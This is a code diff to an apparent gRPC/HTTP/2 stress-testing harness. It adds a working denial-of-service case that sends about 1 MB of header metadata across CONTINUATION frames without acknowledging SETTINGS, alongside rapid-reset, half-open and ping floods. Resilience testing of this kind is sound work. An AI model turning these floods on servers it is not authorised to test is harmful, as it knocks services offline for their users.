@@ -150,9 +150,20 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
 
 
 def literal(name: str, value: str) -> bytes:
-    """Return one header, spelt out without an index (RFC 7541, 6.2.2); both parts shorter than 127 bytes."""
+    """Return one header, spelt out without an index (RFC 7541, 6.2.2)."""
     parts = [part.encode() for part in (name, value)]
-    return b"\0" + b"".join(bytes((len(part),)) + part for part in parts)
+    return b"\0" + b"".join(_hpack_length(len(part)) + part for part in parts)
+
+
+def _hpack_length(length: int) -> bytes:
+    """Return a length as a number with a prefix of seven bits (RFC 7541, 5.1)."""
+    if length < SEVEN_BITS:
+        return bytes((length,))
+    written, length = bytearray((SEVEN_BITS,)), length - SEVEN_BITS
+    while length > SEVEN_BITS:
+        written.append(length & SEVEN_BITS | 0x80)
+        length >>= 7
+    return bytes((*written, length))
 
 
 def call_headers() -> bytes:
@@ -168,8 +179,13 @@ def call_headers() -> bytes:
     return b"".join(literal(*field) for field in fields.items())
 
 
-def framing(make: Callable[[int], bytes], *, connections: int = CONNECTIONS, most: int = 1 << 30) -> Attack:
-    """Write what `make` returns for stream after stream, as fast as the server takes it, and read nothing of use."""
+def framing(
+    make: Callable[[int], bytes], *, connections: int = CONNECTIONS, most: int = 1 << 30, acknowledges: bool = True
+) -> Attack:
+    """Write what `make` returns for stream after stream, as fast as the server takes it, and read nothing of use.
+
+    A peer that does not acknowledge the server's SETTINGS is not bound by them.
+    """
 
     async def attack(target: Target) -> int:
         async def one() -> int:
@@ -178,7 +194,8 @@ def framing(make: Callable[[int], bytes], *, connections: int = CONNECTIONS, mos
                 async with connect(target.grpc) as (reader, writer):
                     # A window as large as can be, so that the server may say what it likes.
                     writer.write(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)))
-                    writer.write(frame(SETTINGS, ACK, 0))
+                    if acknowledges:
+                        writer.write(frame(SETTINGS, ACK, 0))
                     await _flood(target, reader, writer, make, most)
                     sent += 1
                 await asyncio.sleep(0.01)
@@ -228,6 +245,15 @@ def rapid_reset(stream: int) -> bytes:
 def half_open(stream: int) -> bytes:
     """Open a call that never goes on."""
     return frame(HEADERS, END_HEADERS, stream, call_headers())
+
+
+def large_metadata(stream: int, size: int = 1_000_000) -> bytes:
+    """Open a call with so many bytes of metadata that never goes on."""
+    block = call_headers() + literal("x", "y" * size)
+    pieces = [block[start : start + PIECE] for start in range(0, len(block), PIECE)]
+    kinds = [HEADERS, *[CONTINUATION] * (len(pieces) - 1)]
+    flags = [*[0] * (len(pieces) - 1), END_HEADERS]
+    return b"".join(frame(kind, flag, stream, piece) for kind, flag, piece in zip(kinds, flags, pieces, strict=True))
 
 
 def pinging(_stream: int) -> bytes:
@@ -324,6 +350,9 @@ def attacks() -> dict[str, Attack]:
         "HTTP/2: half-open calls": framing(half_open, most=STREAMS),
         "HTTP/2: half-sent messages": framing(
             lambda stream: half_open(stream) + frame(DATA, 0, stream, unfinished), most=STREAMS
+        ),
+        "HTTP/2: 1 MB of metadata, SETTINGS not acknowledged": framing(
+            large_metadata, connections=4, most=STREAMS, acknowledges=False
         ),
         "HTTP/2: pings": framing(pinging),
         "HTTP/2: headers that go on": framing(continuing),
